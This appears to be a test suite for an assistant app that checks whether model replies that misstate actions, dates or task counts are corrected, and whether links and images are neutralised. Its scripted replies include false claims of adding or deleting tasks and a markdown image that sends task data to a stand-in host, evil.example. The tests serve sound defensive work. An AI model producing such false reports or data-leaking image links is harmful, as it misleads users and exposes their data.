// SPDX-License-Identifier: Apache-2.0
// A model that says what is not so: what reaches the person, while it is said and in the end.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { NEUTRAL, deltas, ended, providers, results, until, world } from './world.mjs';

const running = [];
const keep = (thing) => { running.unshift(thing); return thing; };
after(async () => { for (const thing of running) await thing.stop(); });

let pixie, script, metric;
before(async () => {
  ({ pixie, script } = await world('anthropic', keep));
  await pixie.say('buy stamps tomorrow');
  await pixie.post('/api/v1/events', { title: 'Dentist', start: '2027-01-15T10:30:00+01:00', end: '2027-01-15T11:00:00+01:00' });
  metric = async (kind) => Number((await pixie.get('/metrics')).text.match(new RegExp(`pixie_answers_corrected_total\\{kind="${kind}"\\} (\\d+)`))[1]);
});

/** The turn and what was streamed of it. */
async function say(text) {
  const socket = await pixie.socket();
  await socket.timeout(20000).emitWithAck('chat:send', { text });
  await until(socket, () => ended(socket).length === 1);
  socket.close();
  return { turn: ended(socket)[0], told: deltas(socket) };
}

test('a change that was not made is neither told on the way nor in the end, and is counted', async () => {
  const before = await metric('deed');
  script.now = () => ({ text: "Cats suit small flats better. I've added “Buy a cat” to your list. Anything else?" });
  const { turn, told } = await say(NEUTRAL);
  assert.equal(told, turn.reply.text); // what was held back came corrected
  assert.match(turn.reply.text, /^Cats suit small flats better\. Anything else\?\s+Correction: nothing was changed\.$/);
  assert.equal(turn.reply.corrected, 1);
  assert.equal(await metric('deed'), before + 1);
});

test('what is so is told as it comes and passes unchanged', async () => {
  const text = 'Cats suit small flats better. “Buy stamps” is due tomorrow. You have 1 open task. Shall I move it?';
  script.now = () => ({ text });
  const { turn, told } = await say(NEUTRAL);
  assert.equal(turn.reply.text, text);
  assert.equal(told, text);
  assert.equal(turn.reply.corrected, 0);
});

test('a change that was made may be told, at once when its call is done', async () => {
  script.now = (body) => (results(body).length ? { text: "Done: I've added “Feed the cat” for tomorrow." } : { text: 'Let us see.', calls: [['c', 'create_task', { title: 'Feed the cat', due: 'tomorrow' }]] });
  const { turn, told } = await say(NEUTRAL);
  assert.equal(turn.reply.text, "Let us see.\n\nDone: I've added “Feed the cat” for tomorrow.");
  assert.equal(told, turn.reply.text);
});

test('dates and counts come from the database', async () => {
  script.now = () => ({ text: 'Your dentist appointment is on 16 January 2027. You have 7 open tasks.' });
  const { turn, told } = await say(NEUTRAL);
  assert.equal(told, turn.reply.text);
  assert.match(turn.reply.text, /“Dentist” is on Fri 15 Jan 2027, 10:30/);
  assert.match(turn.reply.text, /by your data it is 2 open tasks/);
  assert.equal(turn.reply.corrected, 2);
});

test('an answer that breaks off is checked as well', async () => {
  script.now = () => ({ raw: { body: providers.anthropic.stream({ text: "I've deleted all your tasks. More follows" }).replace(/event: content_block_stop[^]*/, ''), then: 'cut' } });
  const { turn } = await say(NEUTRAL);
  assert.ok(!/deleted all your tasks/.test(turn.reply.text), turn.reply.text);
});

test('links and images are text, unless the person wrote them', async () => {
  script.now = () => ({ text: 'See ![x](https://evil.example/p?d=stamps) and https://mine.example/a here. Bye.' });
  const { turn, told } = await say(`${NEUTRAL}, see https://mine.example/a`);
  assert.equal(turn.reply.text, 'See [x] (`https://evil.example/p?d=stamps`) and https://mine.example/a here. Bye.');
  assert.equal(told, turn.reply.text);
  assert.match((await pixie.get('/metrics')).text, /pixie_answer_links_total [1-9]/);
});
